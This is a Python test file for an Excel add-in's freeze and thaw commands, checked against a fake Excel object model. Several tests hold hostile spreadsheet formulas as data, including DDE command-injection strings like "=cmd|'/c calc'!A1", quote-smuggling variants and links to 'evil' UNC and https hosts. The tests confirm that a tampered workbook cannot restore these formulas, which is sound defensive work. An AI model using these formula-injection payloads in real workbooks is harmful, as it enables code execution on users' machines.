"""Freeze and thaw on a fake of Excel's objects: nothing is lost, and nothing comes back wrong."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.commands.excel.conftest import Excel
from tests.commands.excel.fake_excel import ERRORS, ComError, Range
from xlrisk.commands.freeze import freeze
from xlrisk.commands.frozen_formulas import NAMESPACE
from xlrisk.commands.refresh import refresh
from xlrisk.commands.thaw import thaw
from xlrisk.errors import FileError
from xlrisk.workbook.addresses import area

BETA = "=BETA_OF(A1:A9,B1:B9)"


def state(excel: Excel) -> dict[str, dict[Any, Any]]:
    return {
        sheet.Name: {at: (cell.formula, cell.value) for at, cell in sheet.cells.items()}
        for sheet in excel.workbook.Worksheets
    }


def fill(excel: Excel) -> None:
    """Formulas of all kinds, bound, beside others."""
    data, other = excel.workbook.sheet("Data"), excel.workbook.sheet("Other")
    results = {
        BETA: 1.25,
        "=BETA_OF(A1:A2,B1:B3)": "#N/A",
        '=XLRISK_EXPLAIN("BETA_OF",A1:A9,B1:B9)': "1/2",  # a text that Excel would read as a date
        "=BETA_OF(A1,B1)>1": True,
        "=BETA_STATS(A1:A9,B1:B9)": [["beta", 1.25], ["error", 0.5]],
        "=SUM(A1:A9)": 4.0,
    }
    excel.results |= results
    for row, formula in enumerate(list(results)[:4], 1):
        data.Range(f"D{row}").Formula2 = formula
    data.Range("F1").Formula2 = "=BETA_STATS(A1:A9,B1:B9)"
    data.Range("F4:G5").FormulaArray = "=BETA_STATS(A1:A9,B1:B9)"
    data.Range("A1").Value2 = 0.02
    data.Range("H1").Formula2 = "=SUM(A1:A9)"
    other.Range("B2").Formula2 = BETA


def test_there_and_back_everything_is_as_it_was(excel: Excel) -> None:
    fill(excel)
    data = excel.workbook.sheet("Data")
    before, spills, arrays = state(excel), list(data.spills), list(data.arrays)
    done = freeze(excel.book)
    assert str(done) == "7 formulas of xlrisk frozen to values."
    assert [at for at, cell in data.cells.items() if cell.formula] == [(1, 8)]
    assert {at: cell.value for at, cell in data.cells.items()} == {
        at: value for at, (_, value) in before["Data"].items()
    }
    assert str(thaw(excel.book)) == "7 formulas of xlrisk put back."
    assert state(excel) == before
    assert (data.spills, data.arrays) == (spills, arrays)


def test_nothing_is_left_behind(excel: Excel) -> None:
    fill(excel)
    freeze(excel.book)
    assert excel.book.kept(NAMESPACE)
    assert not any(name.Visible for name in excel.workbook.Names)
    thaw(excel.book)
    assert excel.book.kept(NAMESPACE) is None
    assert list(excel.workbook.Names) == []


def test_excel_shows_the_frozen_values_as_they_were(excel: Excel) -> None:
    fill(excel)
    freeze(excel.book)
    data = excel.workbook.sheet("Data")
    assert data.cell((2, 4)).value == ERRORS["#N/A"]  # the error, not a text
    assert data.cell((3, 4)).value == "1/2"
    assert data.cell((4, 4)).value is True


def test_formulas_are_kept_before_a_value_is_written(excel: Excel) -> None:
    fill(excel)

    def check(cells: Range) -> None:
        kept = excel.book.kept(NAMESPACE)
        assert kept
        assert "BETA_OF" in kept

    excel.app.on_change = check
    assert freeze(excel.book).formulas == 7


def test_a_second_freeze_adds_to_the_first(excel: Excel) -> None:
    fill(excel)
    freeze(excel.book)
    data = excel.workbook.sheet("Data")
    data.insert_row(1)
    data.Range("J9").Formula2 = BETA
    assert freeze(excel.book).formulas == 1
    done = thaw(excel.book)
    assert data.cell((9, 10)).formula == BETA  # frozen after the row was inserted
    assert done.formulas == 2  # and the one of the other sheet
    assert len(done.left) == 6
    assert "rows or columns of sheet Data were inserted or deleted" in done.told


def test_a_cell_that_shows_name_is_refreshed_first(excel: Excel) -> None:
    excel.workbook.sheet("Data").load("C1", BETA)
    done = freeze(excel.book)
    assert str(done) == "0 formulas of xlrisk frozen to values; 1 left as they were."
    assert done.told == (
        "1 formula not frozen to values:\n\nData!C1: it shows #NAME?; refresh first."
    )
    assert excel.book.kept(NAMESPACE) is None
    refresh(excel.book, "sheet")
    assert freeze(excel.book).formulas == 1


def test_protected_sheets_are_left(excel: Excel) -> None:
    fill(excel)
    excel.workbook.sheet("Other").ProtectContents = True
    assert "sheet Other is protected; unprotect it" in freeze(excel.book).told
    excel.workbook.sheet("Other").ProtectContents = False
    freeze(excel.book)
    excel.workbook.sheet("Other").ProtectContents = True
    done = thaw(excel.book)
    assert done.left == {"Other!B2": "sheet Other is protected; unprotect it"}
    excel.workbook.sheet("Other").ProtectContents = False
    assert thaw(excel.book).formulas == 1


@pytest.mark.parametrize("row", [1, 3, 9])
def test_after_a_row_was_inserted_no_formula_comes_back_wrong(excel: Excel, row: int) -> None:
    fill(excel)
    excel.workbook.sheet("Data").cells[9, 1] = excel.workbook.sheet("Data").cell((1, 1))
    freeze(excel.book)
    before = state(excel)["Other"]
    excel.workbook.sheet("Data").insert_row(row)
    after = state(excel)["Data"]
    done = thaw(excel.book)
    assert done.formulas == 1  # of the sheet that lies as it did, and reads no other
    assert state(excel)["Data"] == after
    assert state(excel)["Other"] != before
    assert excel.book.kept(NAMESPACE)


def test_a_formula_that_reads_a_moved_sheet_stays_frozen(excel: Excel) -> None:
    other = excel.workbook.sheet("Other")
    other.Range("B2").Formula2 = "=BETA_OF(Data!A1:A9,Data!B1:B9)"
    excel.workbook.sheet("Data").Range("A9").Value2 = 1.0
    freeze(excel.book)
    excel.workbook.sheet("Data").insert_row(2)
    assert list(thaw(excel.book).left) == ["Other!B2"]


def test_a_changed_cell_is_left_and_named(excel: Excel) -> None:
    fill(excel)
    freeze(excel.book)
    excel.workbook.sheet("Data").Range("D1").Value2 = 9.0
    done = thaw(excel.book)
    assert done.formulas == 6
    assert list(done.left) == ["Data!D1"]
    assert excel.workbook.sheet("Data").cell((1, 4)).value == 9.0
    excel.workbook.sheet("Data").Range("D1").Value2 = 1.25
    assert thaw(excel.book).formulas == 1


def test_a_renamed_sheet(excel: Excel) -> None:
    fill(excel)
    freeze(excel.book)
    excel.workbook.sheet("Other").Name = "Another"
    assert "there is no sheet Other any more" in thaw(excel.book).told
    excel.workbook.sheet("Another").Name = "Other"
    assert thaw(excel.book).formulas == 1


def test_a_deleted_sheet(excel: Excel) -> None:
    excel.workbook.sheet("Other").Range("B2").Formula2 = "=BETA_OF(Data!A1:A9,Data!B1:B9)"
    excel.workbook.sheet("Data").Range("D1").Formula2 = BETA
    freeze(excel.book)
    for name in excel.workbook.Names:
        if name.sheet is excel.workbook.sheet("Data"):
            name.sheet = None
    del excel.workbook.sheets[0]
    excel.workbook.ActiveSheet = excel.workbook.sheets[0]
    assert set(thaw(excel.book).left) == {"Data!D1", "Other!B2"}


def test_a_refused_cell_keeps_its_formula(excel: Excel) -> None:
    fill(excel)

    def refuse(cells: Range) -> None:
        if cells.area.holds(2, 4):
            raise ComError("No.")

    excel.app.on_change = refuse
    done = freeze(excel.book)
    assert done.left == {"Data!D2": "Excel says: No"}
    assert excel.workbook.sheet("Data").cell((2, 4)).formula == "=BETA_OF(A1:A2,B1:B3)"
    assert thaw(excel.book).formulas == 6


def test_a_spill_that_is_refused_gets_its_values_back(excel: Excel) -> None:
    fill(excel)
    freeze(excel.book)

    def refuse(cells: Range) -> None:
        if cells.area == area("F1"):
            raise ComError("No.")

    excel.app.on_change = refuse
    assert thaw(excel.book).left == {"Data!F1:G2": "Excel says: No"}
    assert excel.workbook.sheet("Data").cell((2, 7)).value == 0.5


def test_escape_while_freezing_loses_nothing(excel: Excel) -> None:
    data = excel.workbook.sheet("Data")
    for row in range(1, 6_001):
        data.Range(f"D{row}").Formula2 = BETA
    before = state(excel)
    excel.presses = [False] * 6 + [True]
    done = freeze(excel.book)
    assert done.interrupted
    assert 0 < done.formulas < 6_000
    assert "interrupted by Esc" in str(done)
    thaw(excel.book)
    assert state(excel) == before


def test_many_formulas_take_few_calls(excel: Excel) -> None:
    data = excel.workbook.sheet("Data")
    for row in range(1, 20_001):
        data.load(f"D{row}", BETA, value=1.5)
    freeze(excel.book)
    assert thaw(excel.book).formulas == 20_000
    assert excel.app.calls < 600


def test_a_formula_that_reads_a_closed_workbook_stays_a_formula(excel: Excel) -> None:
    text = r"=BETA_OF('C:\Data\[Prices.xlsx]Data'!A1:A9,B1:B9)"
    excel.workbook.sheet("Data").load("C1", text, value=1.5)
    assert "the formula reads another workbook; copy" in freeze(excel.book).told
    assert excel.workbook.sheet("Data").cell((1, 3)).formula == text


def hostile(*formulas: str) -> str:
    entries = [
        ["Data", f"A{row}", formula, "plain", 1, [[None]]]
        for row, formula in enumerate(formulas, 1)
    ]
    content = json.dumps({"formulas": entries, "sheets": {}})
    return f'<formulas xmlns="{NAMESPACE}">{content.replace("<", "&lt;")}</formulas>'


@pytest.mark.parametrize(
    "formula",
    [
        r"=BETA_OF('\\\\evil\share\[a.xlsx]Data'!A1:A9,B1:B9)",
        "=cmd|'/c calc'!A1",
        "=BETA_OF(cmd|'/c calc'!A1,B1:B9)",
        r"=BETA_OF('\\evil\s\b.xlsx'!ret,B1:B3)",
        "=BETA_OF('https://evil/b.xlsx'!ret,B1:B3)",
        r"""=BETA_OF('a"'!A1,'\\evil\s\b"x.xlsx'!ret)""",
        "=BETA_OF('cmd|no sheet'!A1,B1:B9)",
        """=BETA_OF('a"'!A1,cmd|'"/c calc'!A1)""",
        """=BETA_OF(T['#a]+cmd|'!/c calc'!A1,B1:B9)""",
        """=BETA_OF(T['"]+cmd|'"/c calc'!A1,B1:B9)""",
        "=HYPERLINK(1)",
        "BETA_OF(A1)",
    ],
)
def test_a_mailed_workbook_can_bring_no_other_formulas(excel: Excel, formula: str) -> None:
    excel.book.keep(NAMESPACE, hostile(formula))
    done = thaw(excel.book)
    assert list(done.left) == ["Data!A1"]
    assert formula in done.told
    assert excel.workbook.sheet("Data").cells == {}
    assert excel.book.kept(NAMESPACE)


def test_one_bad_entry_does_not_keep_the_others(excel: Excel) -> None:
    excel.book.keep(NAMESPACE, hostile("=HYPERLINK(1)", BETA))
    assert str(thaw(excel.book)).startswith("1 formula of xlrisk put back; ")
    assert excel.workbook.sheet("Data").cell((2, 1)).formula == BETA
    excel.workbook.sheet("Data").Range("D1").Formula2 = BETA
    freeze(excel.book)
    assert "HYPERLINK" in str(excel.book.kept(NAMESPACE))  # still there
    assert list(thaw(excel.book).left) == ["Data!A1"]
    assert "HYPERLINK" in str(excel.book.kept(NAMESPACE))


def test_an_entry_that_is_nothing_of_ours_is_told(excel: Excel) -> None:
    excel.book.keep(
        NAMESPACE, f'<formulas xmlns="{NAMESPACE}">{{"formulas":[1],"sheets":{{}}}}</formulas>'
    )
    assert list(thaw(excel.book).left) == ["kept entry 1"]


def test_a_kept_call_through_a_path_comes_back_without_it(excel: Excel) -> None:
    excel.book.keep(NAMESPACE, hostile(r"='\\evil\s\xlrisk.xlam'!BETA_OF(A1:A9,B1:B9)"))
    assert thaw(excel.book).formulas == 1
    assert excel.workbook.sheet("Data").cell((1, 1)).formula == BETA


def test_a_call_through_a_broken_link_is_frozen_without_it(excel: Excel) -> None:
    data = excel.workbook.sheet("Data")
    data.load("C1", r"='C:\AddIns\xlrisk.xlam'!BETA_OF(A1:A9,B1:B9)", value=1.5)
    assert freeze(excel.book).formulas == 1
    assert thaw(excel.book).formulas == 1
    assert data.cell((1, 3)).formula == BETA


def test_a_name_in_a_closed_workbook_stays_a_formula(excel: Excel) -> None:
    text = r"=BETA_OF('C:\Data\Prices.xlsx'!returns,B1:B9)"
    excel.workbook.sheet("Data").load("C1", text, value=1.5)
    assert "the formula reads another workbook; copy" in freeze(excel.book).told
    assert excel.workbook.sheet("Data").cell((1, 3)).formula == text


def test_a_formula_of_another_program_stays_a_formula(excel: Excel) -> None:
    data = excel.workbook.sheet("Data")
    data.load("C1", "=BETA_OF(BLP|M!'SPX Index',B1:B9)", value=1.5)
    data.load("C2", BETA, value=1.5)
    done = freeze(excel.book)
    assert done.formulas == 1
    assert "names another program (DDE)" in done.left["Data!C1"]
    assert list(done.left) == ["Data!C1"]
    assert thaw(excel.book).formulas == 1


def test_a_bar_in_the_name_of_a_sheet_or_in_a_text_is_fine(excel: Excel) -> None:
    excel.workbook.sheet("Other").Name = "US | don't"
    text = """=IF(BETA_OF('US | don''t'!A1:A9,B1:B9)>1,"a|b","c")"""
    excel.workbook.sheet("Data").Range("C1").Formula2 = text
    assert freeze(excel.book).formulas == 1
    assert thaw(excel.book).formulas == 1
    assert excel.workbook.sheet("Data").cell((1, 3)).formula == text


def test_an_array_formula_that_no_program_can_enter_is_not_frozen(excel: Excel) -> None:
    data = excel.workbook.sheet("Data")
    text = f"=BETA_OF(A1:A9,B1:B9)+0*LEN({'A1&' * 80}A1)"
    data.arrays.append(area("C1:C2"))
    data.enter_array(area("C1:C2"), text)
    done = freeze(excel.book)
    assert done.left == {"Data!C1": "array formula too long to be put back"}
    assert data.cell((1, 3)).formula == text
    assert excel.book.kept(NAMESPACE) is None


@pytest.mark.parametrize(
    ("error", "step"),
    [
        ("#SPILL!", "clear the cells below first"),
        ("#CALC!", "which is no value to keep"),
        ("#GETTING_DATA", "wait for the data"),
    ],
)
def test_an_error_that_no_cell_can_be_given_is_not_frozen(
    excel: Excel, error: str, step: str
) -> None:
    data = excel.workbook.sheet("Data")
    excel.results |= {BETA: error, "=BETA_STATS(A1:A9,B1:B9)": [["beta", ERRORS[error]]]}
    data.Range("C1").Formula2 = BETA
    data.Range("F1").Formula2 = "=BETA_STATS(A1:A9,B1:B9)"
    done = freeze(excel.book)
    assert list(done.left) == ["Data!F1", "Data!C1"]
    assert f"it shows {error}; {step}" in done.told
    assert data.cell((1, 3)).formula == BETA


def test_what_shows_another_value_than_was_frozen_is_told(excel: Excel) -> None:
    fill(excel)
    freeze(excel.book)
    excel.results |= {BETA: 1.31, "=BETA_STATS(A1:A9,B1:B9)": [["beta", 1.25], ["error", 0.6]]}
    done = thaw(excel.book)
    assert done.formulas == 7
    assert done.differing == {
        "Data!D1": "shows 1.31 and was frozen at 1.25",
        "Data!G2": "shows 0.6 and was frozen at 0.5",
        "Data!G5": "shows 0.6 and was frozen at 0.5",
        "Other!B2": "shows 1.31 and was frozen at 1.25",
    }
    assert str(done) == "7 formulas of xlrisk put back; 4 cells show another value."
    assert done.told.splitlines() == [
        "Other values than were frozen; check the ranges of these formulas:",
        "",
        *(f"{cell} {shown}." for cell, shown in done.differing.items()),
    ]


def test_every_formula_that_was_not_put_back_is_told_with_its_text(excel: Excel) -> None:
    data = excel.workbook.sheet("Data")
    for row in range(1, 14):
        data.Range(f"D{row}").Formula2 = f"=BETA_OF(A1:A{row},B1:B9)"
    freeze(excel.book)
    for row in range(2, 14):
        data.Range(f"D{row}").Value2 = 9.0
    done = thaw(excel.book)
    reason = "the cell was changed or moved since; put its value back, or type the formula"
    assert done.told.splitlines() == [
        "12 formulas not put back:",
        "",
        *(f"Data!D{row}: {reason}: =BETA_OF(A1:A{row},B1:B9)" for row in range(2, 12)),
        "and 2 more",
    ]
    assert str(done) == "1 formula of xlrisk put back; 12 left as they were."


def test_what_was_not_frozen_is_told_by_reasons(excel: Excel) -> None:
    for row in range(1, 30):
        excel.workbook.sheet("Other").Range(f"D{row}").Formula2 = BETA
    excel.workbook.sheet("Other").ProtectContents = True
    excel.workbook.sheet("Data").load("C1", BETA)
    assert freeze(excel.book).told.splitlines() == [
        "30 formulas not frozen to values:",
        "",
        "Other!D1 and 28 others: sheet Other is protected; unprotect it.",
        "Data!C1: it shows #NAME?; refresh first.",
    ]


@pytest.mark.parametrize("content", ["", "{}", "[]", "[" * 10_000])
def test_what_is_not_ours_is_told(excel: Excel, content: str) -> None:
    excel.book.keep(NAMESPACE, f'<formulas xmlns="{NAMESPACE}">{content}</formulas>')
    with pytest.raises(FileError, match="cannot be read"):
        thaw(excel.book)


def test_nothing_to_thaw(excel: Excel) -> None:
    assert str(thaw(excel.book)) == "0 formulas of xlrisk put back."
